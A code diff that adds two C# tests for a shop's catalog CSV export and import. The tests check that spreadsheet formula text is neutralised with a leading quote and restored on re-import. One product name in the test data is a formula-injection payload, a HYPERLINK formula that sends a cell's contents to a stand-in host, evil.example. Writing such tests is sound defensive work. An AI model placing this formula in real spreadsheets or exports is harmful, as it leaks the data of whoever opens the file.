@@ -253,6 +253,58 @@ public sealed class CatalogImportTests(ApiFactory api, ITestOutputHelper output)
     }
 
     [Fact]
+    public async Task Export_TextThatASpreadsheetWouldRunAsAFormula_IsPrefixedAndImportsBackUnchanged()
+    {
+        var store = await StoreDriver.OnboardAsync(api, "imp-formula");
+        string[] names = ["=1+1", "+x", "-x", "@x", "'90s tee", "''x", "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Open\")", "Plain tee"];
+        for (var index = 0; index < names.Length; index++)
+        {
+            await store.Owner.PostJsonAsync("/admin/products", new
+            {
+                handle = $"f-{index}",
+                name = names[index],
+                category = index == 0 ? "@SUM(A1:A9)" : "Tees",
+                price = 5m,
+                variants = new[] { new { attributes = new { size = index == 0 ? "-1" : "M" } } },
+            }).ExpectAsync(HttpStatusCode.Created);
+        }
+
+        var exported = await ExportAsync(store);
+        var result = await store.Owner.PostAsync("/admin/catalog/import", Csv(exported)).ExpectAsync(HttpStatusCode.OK);
+
+        Assert.Contains("f-0,'=1+1,'@SUM(A1:A9),5.00,active,size=-1,", exported, StringComparison.Ordinal);
+        Assert.Contains("f-1,'+x,Tees,", exported, StringComparison.Ordinal);
+        Assert.Contains("f-2,'-x,Tees,", exported, StringComparison.Ordinal);
+        Assert.Contains("f-3,'@x,Tees,", exported, StringComparison.Ordinal);
+        Assert.Contains("f-4,''90s tee,Tees,", exported, StringComparison.Ordinal);
+        Assert.Contains("f-5,'''x,Tees,", exported, StringComparison.Ordinal);
+        Assert.Contains("f-6,\"'=HYPERLINK(", exported, StringComparison.Ordinal);
+        Assert.Contains("f-7,Plain tee,Tees,", exported, StringComparison.Ordinal);
+        Assert.Equal((0, 0, 0), (result.Value<int>("productsCreated"), result.Value<int>("productsUpdated"), result.Value<int>("variantsCreated")));
+        Assert.Equal(exported, await ExportAsync(store));
+        for (var index = 0; index < names.Length; index++)
+        {
+            Assert.Equal(names[index], (await store.ProductAsync($"f-{index}")).Value<string>("name"));
+        }
+
+        Assert.Equal("@SUM(A1:A9)", (await store.ProductAsync("f-0")).Value<string>("category"));
+    }
+
+    [Fact]
+    public async Task Import_TextWithALeadingQuote_LosesExactlyThatQuote()
+    {
+        // What the export writes for text a spreadsheet would run, and what a spreadsheet shows as plain text.
+        var store = await StoreDriver.OnboardAsync(api, "imp-quoted");
+        var csv = "handle,name,category,price,attributes\nq-one,'=1+1,'Tees,1.00,'size=M\nq-two,''x,Tees,1.00,\n";
+
+        await store.Owner.PostAsync("/admin/catalog/import", Csv(csv)).ExpectAsync(HttpStatusCode.OK);
+
+        var one = await store.ProductAsync("q-one");
+        Assert.Equal(("=1+1", "Tees", "M"), (one.Value<string>("name"), one.Value<string>("category"), one["variants"]![0]!["attributes"]!.Value<string>("size")));
+        Assert.Equal("'x", (await store.ProductAsync("q-two")).Value<string>("name"));
+    }
+
+    [Fact]
     public async Task Import_QuotedFieldsAndWindowsLineEnds_AreRead()
     {
         var store = await StoreDriver.OnboardAsync(api, "imp-quote");
